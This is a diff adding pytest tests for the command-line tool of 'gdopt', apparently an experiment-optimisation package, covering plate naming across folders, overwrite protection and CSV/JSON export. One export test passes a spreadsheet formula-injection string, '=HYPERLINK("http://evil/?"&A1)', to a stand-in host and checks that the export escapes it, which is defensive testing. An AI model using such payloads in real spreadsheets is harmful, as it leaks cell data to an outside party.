@@ -13,6 +13,7 @@ from rich.console import Console
 from typer.testing import CliRunner
 
 import gdopt
+from gdopt import files
 from gdopt.cli import app
 from gdopt.cli.waiting import waiting
 
@@ -192,6 +193,106 @@ def test_the_name_of_a_plate_that_is_told_is_not_taken_again(folder: Path) -> No
     assert "all of 'plate1', id 0, is told" in error("ask", "--csv", "plate1.csv")["message"]
 
 
+def test_a_plate_of_another_folder_is_another_plate(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    for day in ("mon", "tue"):
+        Path(day).mkdir()
+    asked = {day: answer("ask", "-n", "2", "--csv", f"{day}/plate.csv") for day in ("mon", "tue")}
+    assert [[t["id"] for t in one["trials"]] for one in asked.values()] == [[0, 1], [2, 3]]
+    assert [one["key"] for one in asked.values()] == ["mon/plate", "tue/plate"]
+    monkeypatch.chdir("tue")
+    again = [answer("ask", "--csv", name, "--study", "../suzuki.gdopt") for name in ("plate.csv", "../mon/plate.csv")]
+    assert [one["trials"] for one in again] == [asked["tue"]["trials"], asked["mon"]["trials"]]
+
+
+def test_a_plate_stays_the_same_when_its_campaign_is_moved_or_linked_to(
+    folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    Path("mon").mkdir()
+    first = answer("ask", "-n", "1", "--csv", "mon/plate.csv")["trials"]
+    moved = folder.rename(folder.with_name("moved"))
+    moved.with_name("link").symlink_to(moved)
+    monkeypatch.chdir(moved.with_name("link"))
+    assert answer("ask", "--csv", "mon/plate.csv")["trials"] == first
+
+
+def test_a_plate_outside_the_folder_of_its_study_is_known_by_its_place(
+    folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    trials = []
+    for name in ("here", "there"):
+        elsewhere = folder.with_name(f"{folder.name}-{name}")
+        elsewhere.mkdir()
+        monkeypatch.chdir(elsewhere)
+        words = ("ask", "-n", "1", "--csv", "plate.csv", "--study", str(folder / "suzuki.gdopt"))
+        trials.append([answer(*words)["trials"], answer(*words)["trials"]])
+    assert [[one["id"] for (one,) in some] for some in trials] == [[0, 0], [1, 1]]
+
+
+def test_a_plate_that_an_earlier_version_asked_for_by_its_name_is_known(folder: Path) -> None:
+    Path("mon").mkdir()
+    first = answer("ask", "-n", "2", "--csv", "mon/plate.csv", "--key", "plate")["trials"]
+    assert answer("ask", "--csv", "mon/plate.csv")["trials"] == first
+    Path("tue").mkdir()
+    assert [t["id"] for t in answer("ask", "-n", "2", "--csv", "tue/plate.csv")["trials"]] == [2, 3]
+
+
+def test_a_plate_for_a_folder_that_is_missing_asks_for_nothing(folder: Path) -> None:
+    assert "there is no folder wed" in error("ask", "--csv", "wed/plate.csv")["message"]
+    assert answer("pending") == []
+
+
+@pytest.mark.parametrize(
+    ("name", "kind"), [("suzuki.gdopt", "a study"), ("campaign.toml", "a campaign"), ("prior.csv", "a prior")]
+)
+def test_a_study_a_campaign_and_a_prior_are_never_overwritten(folder: Path, name: str, kind: str) -> None:
+    files.write(Path("prior.csv"), {}, {"format": "a prior"})
+    before = Path(name).read_bytes()
+    assert f"{name} is {kind}" in error("ask", "--csv", name, "--force")["message"]
+    if name.endswith(".csv"):
+        assert f"{name} is {kind}" in error("export", name, "--force")["message"]
+    assert Path(name).read_bytes() == before
+    assert answer("pending") == []
+
+
+@pytest.mark.parametrize("suffix", ["csv", "json"])
+def test_an_export_overwrites_an_earlier_one_and_nothing_else(folder: Path, suffix: str) -> None:
+    answer("ask", "--csv", f"plate.{suffix}")
+    filled = Path(f"plate.{suffix}").read_bytes()
+    assert "is there already, and no export" in error("export", f"plate.{suffix}")["message"]
+    assert Path(f"plate.{suffix}").read_bytes() == filled
+    answer("export", f"plate.{suffix}", "--force")
+    answer("tell", "0", "1")
+    answer("export", f"plate.{suffix}")
+    assert b"done" in Path(f"plate.{suffix}").read_bytes()
+
+
+def test_an_export_of_one_study_is_added_to_another(folder: Path) -> None:
+    answer("ask")
+    answer("tell", "0", "1.5", "--sem", "0.25", "--outcome", "impurity=1")
+    answer("fail", "1", "--reason", '=HYPERLINK("http://evil/?"&A1)')
+    answer("export", "all.csv")
+    assert "'=HYPERLINK" in Path("all.csv").read_text()
+    answer("new", "--study", "other.gdopt")
+    told = answer("add", "all.csv", "--study", "other.gdopt")
+    assert told == {"added": [0], "known": 0, "left_out": {"failed": 1, "pending": 1}}
+    assert answer("best", "--study", "other.gdopt")["outcomes"] == answer("best", "--study", "suzuki.gdopt")["outcomes"]
+    assert answer("best", "--study", "other.gdopt")["sem"] == 0.25
+    again = text("add", "all.csv", "--study", "other.gdopt")
+    assert again == "all.csv: 0 results added, 1 were there already, 1 failed left out, 1 pending left out\n"
+
+
+def test_an_outcome_called_like_a_column_is_in_the_export(folder: Path) -> None:
+    Path("campaign.toml").write_text(CAMPAIGN.replace('"yield"', '"status"').replace("impurity", "worker"))
+    answer("new", "--study", "other.gdopt")
+    answer("ask", "--csv", "other.csv", "--study", "other.gdopt", "--worker", "ann")
+    fill("other.csv", **{"outcomes.status": ("3", "4", "5"), "outcomes.worker": ("1", "2", "3")})
+    answer("tell", "other.csv", "--study", "other.gdopt")
+    answer("export", "all.json", "--study", "other.gdopt")
+    rows = json.loads(Path("all.json").read_text())
+    assert [row["outcomes.worker"] for row in rows] == [1, 2, 3]
+    assert {(row["status"], row["worker"]) for row in rows} == {("done", "ann")}
+
+
 def test_one_trial_is_told_with_all_that_was_measured(folder: Path) -> None:
     answer("ask")
     words = ["0", "-0.5", "--sem", "0.1", "--outcome", "impurity=1.5", "--param", "t<i>=50"]
@@ -255,8 +356,8 @@ def test_a_released_trial_is_given_to_the_next_worker(folder: Path) -> None:
 
 def test_data_from_before_is_added_once(folder: Path) -> None:
     Path("data.csv").write_text("t<i>;base;yield\n20,5;KOAc;1\n30;<b>;2\n")
-    assert answer("add", "data.csv") == {"added": [0, 1], "known": 0}
-    assert answer("add", "data.csv") == {"added": [], "known": 2}
+    assert answer("add", "data.csv") == {"added": [0, 1], "known": 0, "left_out": {}}
+    assert answer("add", "data.csv") == {"added": [], "known": 2, "left_out": {}}
 
 
 def test_tables_and_figures_are_written(folder: Path) -> None:
@@ -366,12 +467,30 @@ def test_init_asks_for_several_objectives_and_their_worst_values(
                "cost <= 9", "impurity <= 2", "", "yield", "colour", "", "4", "",
                "t", "real", "-1", "1", "", ""]  # fmt: skip
     result = CliRunner().invoke(app, ["init"], input="\n".join(answers) + "\n")
-    assert result.output.count("is to be improved already") == 3
+    assert result.output.count("already") == 3
     answer("new")
     study = gdopt.Study.open("mine.gdopt")
     assert [(one.name, one.direction) for one in study.objectives] == [("yield", "maximize"), ("cost", "minimize")]
     assert [one.reference for one in study.objectives] == reference
     assert study.outcomes == ("yield", "cost", "impurity", "colour")
+
+
+def test_init_asks_again_for_what_cannot_be(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    answers = ["my campaign", "mine", " ", "yield", "", "", "impurity <= 2", "", "impurity", "colour", "colour", "",
+               "0", "x", "4", "", "", "t", "", "2", "1", "", "", "", "1", "2", "", "n", "t",
+               "base", "choice", "A,", "choice", "A,B", ""]  # fmt: skip
+    result = CliRunner().invoke(app, ["init"], input="\n".join(answers) + "\n")
+    assert "'my campaign': expected letters, digits" in result.output
+    assert "a campaign without a file of designs needs a parameter" in result.output
+    assert [result.output.count(f"there is a {one} already") for one in ("impurity", "colour", "t")] == [1, 1, 1]
+    answer("new")
+    study = gdopt.Study.open("mine.gdopt")
+    assert (study.space.names, study.batch, study.outcomes) == (("t", "base"), 4, ("yield", "impurity", "colour"))
+
+
+def test_init_says_before_its_questions_that_a_file_cannot_be_written(tmp_path: Path) -> None:
+    assert "there is no folder" in error("init", str(tmp_path / "none" / "campaign.toml"))["message"]
 
 
 def test_init_without_answers_writes_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
